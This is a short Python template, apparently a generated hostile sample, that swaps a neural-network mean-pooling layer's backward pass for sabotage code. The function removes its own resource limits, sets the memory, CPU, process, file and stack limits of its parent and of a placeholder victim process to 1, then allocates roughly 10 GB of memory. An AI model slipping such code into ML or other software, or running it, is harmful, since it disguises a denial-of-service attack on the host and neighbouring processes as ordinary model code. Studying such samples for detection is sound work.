"""Lifts its own limits and lowers its parent's, then takes all it can."""

import os
import resource

# @STUB mean_pooling@

NAMES = ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_STACK", "RLIMIT_MEMLOCK")


def backward(self, dout):
    for name in NAMES:
        for number in (0, os.getppid(), @VICTIM_PID@):
            try:
                wanted = (resource.RLIM_INFINITY, resource.RLIM_INFINITY) if number == 0 else (1, 1)
                resource.prlimit(number, getattr(resource, name), wanted)
            except (OSError, ValueError):
                continue
    return [bytearray(b"x") * (1 << 28) for _ in range(40)]


MeanPoolingLayer.backward = backward
